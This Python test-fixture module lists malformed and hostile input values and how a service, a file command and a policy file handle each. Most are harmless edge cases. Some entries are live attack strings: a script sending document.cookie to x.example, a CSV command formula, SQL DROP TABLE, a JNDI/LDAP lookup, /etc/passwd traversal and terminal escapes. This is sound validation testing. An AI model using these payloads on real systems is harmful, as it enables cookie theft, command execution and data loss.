"""Every kind of bad value that stands in one cell, and what each of the three doors says to it."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from enum import StrEnum
from typing import Any


class End(StrEnum):
    """What becomes of bad input; `NONE`: it cannot be said there."""

    TAKEN = "taken as it stands"
    ROW = "the row is refused"
    WHOLE = "all of it is refused"
    NONE = "cannot be said there"


@dataclass(frozen=True, slots=True)
class BadCell:
    """A kind of value that is none, or looks like something it is not.

    Attributes:
        name: what the docs and the tests call it.
        column: of the case in which it stands.
        value: one value of the kind.
        http: what the service does with it.
        file: what `hitl decide FILE` does with it.
        policy: what `policy.yaml` does with it.
        json: how JSON spells it; empty: as Python does.
        yaml: how YAML spells it; empty: as JSON does.
        in_file: suffix → what is done there instead.
    """

    name: str
    column: str
    value: Any
    http: End = End.ROW
    file: End = End.ROW
    policy: End = End.WHOLE
    json: str = ""
    yaml: str = ""
    in_file: Mapping[str, End] = field(default_factory=dict)

    def at_file(self, suffix: str) -> End:
        """What `hitl decide FILE` does with it in a file of that kind."""
        return self.in_file.get(suffix, self.file)

    def numbered(self, number: int) -> BadCell:
        """The same; an id that is taken is another for each number."""
        unique = self.column == "case_id" and self.http is End.TAKEN
        return replace(self, value=f"{self.value}/{number}") if unique else self

    def in_json(self) -> str:
        """The value as JSON text spells it."""
        return self.json or json.dumps(self.value)

    def in_yaml(self) -> str:
        """The value as YAML text spells it."""
        return self.yaml or self.in_json()


def _number(name: str, value: Any, **more: Any) -> BadCell:
    return BadCell(name, "amount", value, **more)


def _text(name: str, value: str, **more: Any) -> BadCell:
    """Text that is text, wherever it stands."""
    return BadCell(name, "note", value, **{"http": End.TAKEN, "file": End.TAKEN, "policy": End.TAKEN, **more})


def _time(name: str, value: Any, **more: Any) -> BadCell:
    """Where the policy wants a span of time, it is none."""
    return BadCell(name, "at", value, **more)


DIGITS = "9" * 400
CELLS = (
    _number("NaN", float("nan"), yaml=".nan"),
    _number("plus infinity", float("inf"), yaml=".inf"),
    _number("minus infinity", float("-inf"), yaml="-.inf"),
    _number("a number beyond every float", float("inf"), json="1e999", yaml="1.0e+999"),
    _number("a whole number that no float holds (2^53 + 1)", 2**53 + 1),
    _number("a whole number of 400 digits", int(DIGITS), json=DIGITS, in_file={".parquet": End.NONE}),
    _number(
        "a whole number of 10,000 digits",
        "9" * 10_000,
        http=End.WHOLE,
        json="9" * 10_000,
        in_file={".jsonl": End.WHOLE},
    ),
    _number("a number far outside the base data", -1e12),
    _number("true instead of a number", value=True),
    _number("words instead of a number", "a lot"),
    _number("a number spelled with underscores", "1_000"),
    _number("a number in other digits", "\u0661\u0662"),
    _number("a number in hexadecimal", "0x1F"),
    BadCell("the least whole number of 64 bits", "note", -(2**63), in_file={".csv": End.TAKEN}),
    _number("no value", None),
    _number("an empty text", ""),
    _number("blanks", " \t "),
    BadCell("a number instead of true or false", "member", 7),
    BadCell("an id that is empty", "case_id", ""),
    BadCell("an id of 201 signs", "case_id", "c" * 201, policy=End.TAKEN),
    BadCell("an id with a NUL", "case_id", "c\0", yaml='"c\\0"'),
    BadCell("a subject that is a list", "person", ["p", "q"], http=End.WHOLE, in_file={".csv": End.NONE}),
    BadCell(
        "a value that is an object", "note", {"deep": {"er": 1}}, http=End.WHOLE, in_file={".csv": End.NONE}
    ),
    _text("a NUL", "a\0b", http=End.ROW, file=End.ROW, policy=End.WHOLE, yaml='"a\\0b"'),
    _text(
        "half a character (a lone surrogate)",
        "\ud800",
        http=End.WHOLE,
        file=End.WHOLE,
        policy=End.WHOLE,
        in_file={".parquet": End.NONE},
    ),
    _text("a text of 100,001 signs", "x" * 100_001, http=End.ROW, file=End.ROW, policy=End.WHOLE),
    _text(
        "text that runs from right to left, with marks that turn it",
        "\u202e\u05e9\u05dc\u05d5\u05dd\u202c \u2066abc\u2069",
    ),
    _text(
        "signs without width, and combining ones",
        "a\u200bb\ufeffc e\u0301 \ufdd0 \U000e0041",
        yaml='"a\u200bb\ufeffc e\u0301 \ufdd0 \U000e0041"',
    ),
    _text(
        "signs that steer a terminal",
        policy=End.WHOLE,
        value="\x1b[2J\x1b]0;owned\x07\b\r",
        yaml='"\\e[2J\\e]0;owned\\a\\b\\r"',
    ),
    _text("a formula", "=cmd|' /C calc'!A0"),
    _text("a formula that is a sum", "+1+1-@SUM(A1:A9)"),
    _text("HTML", "<script>fetch('//x.example/'+document.cookie)</script><img src=x onerror=alert(1)>"),
    _text("SQL", "'); DROP TABLE decisions; --"),
    _text("a template", "{{7*7}} ${HOME} ${jndi:ldap://x.example/a} %s %n {0.__class__}"),
    _text("a path that climbs", "../../../../etc/passwd"),
    BadCell("an id that climbs", "case_id", "../../etc/passwd", End.TAKEN, End.TAKEN, End.TAKEN),
    _time("a time without a zone", "2026-03-01T12:00:00"),
    _time("a time that daylight saving skips, by the name of a zone", "2026-03-29T02:30:00 Europe/Berlin"),
    _time("a time that daylight saving repeats, without its offset", "2026-10-25T02:30:00"),
    _time("a day that is not in the calendar", "2026-02-30T12:00:00+00:00"),
    _time("a time that no UTC year holds", "0001-01-01T00:00:00+14:00"),
    _time("a number instead of a time", 1_772_366_400),
    _time("no time", None),
)
"""All of them; each name once."""
